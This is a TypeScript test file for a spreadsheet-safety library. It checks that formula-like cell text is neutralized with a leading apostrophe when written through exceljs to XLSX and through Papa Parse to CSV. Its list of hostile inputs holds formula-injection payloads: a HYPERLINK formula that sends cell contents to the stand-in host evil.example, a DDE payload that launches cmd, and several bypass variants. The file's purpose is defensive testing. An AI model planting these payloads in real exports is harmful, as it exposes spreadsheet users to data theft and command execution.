/**
 * Formula-like text written through `safeCell` comes back from a real spreadsheet reader
 * (exceljs for XLSX, Papa Parse for CSV) as text starting with an apostrophe, never as a
 * formula; numbers, negative ones included, stay numbers.
 */
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { neutralizeFormula, safeCell, safeRow } from '../../lib/spreadsheet-safety';

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Xem hồ sơ")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', ' =after a space', '\uFF1D1+1'];
// (Spaces before `=` do not help: some spreadsheets trim them, then evaluate; `＝` is the full-width form Excel's East Asian input reads as `=`.)
const HARMLESS = ['Nguyễn Văn An', '2024-06-30', '00004', 'a=b', 'x =not first', ''];

test('text that a spreadsheet would evaluate gets a leading apostrophe; other text is unchanged', () => {
  for (const text of HOSTILE) expect(neutralizeFormula(text)).toBe(`'${text}`);
  for (const text of HARMLESS) expect(neutralizeFormula(text)).toBe(text);
  expect([safeCell(-5), safeCell(0), safeCell(null), safeCell(true)]).toEqual([-5, 0, null, true]);
  expect(safeRow({ a: '=1', b: -1.5, c: null })).toEqual({ a: "'=1", b: -1.5, c: null });
});

test('an XLSX written with safeCell holds no formula, and a negative number stays a number', async () => {
  const book = new ExcelJS.Workbook();
  const sheet = book.addWorksheet('export');
  sheet.addRow(safeRow([...HOSTILE, -42.5]));
  const read = new ExcelJS.Workbook();
  await read.xlsx.load((await book.xlsx.writeBuffer()) as never);
  const row = read.worksheets[0].getRow(1);
  HOSTILE.forEach((text, i) => {
    const cell = row.getCell(i + 1);
    // (XML reads a carriage return back as a line feed.)
    expect({ text, type: cell.type, value: cell.value }).toEqual({ text, type: ExcelJS.ValueType.String, value: `'${text}`.replace(/\r/g, '\n') });
  });
  const number = row.getCell(HOSTILE.length + 1);
  expect({ type: number.type, value: number.value }).toEqual({ type: ExcelJS.ValueType.Number, value: -42.5 });
});

test('a CSV written with safeRow reads back with every hostile cell neutralized', () => {
  const csv = Papa.unparse([safeRow([...HOSTILE, -7])]);
  const [cells] = Papa.parse<string[]>(csv).data;
  expect(cells).toEqual([...HOSTILE.map((t) => `'${t}`), '-7']);
});
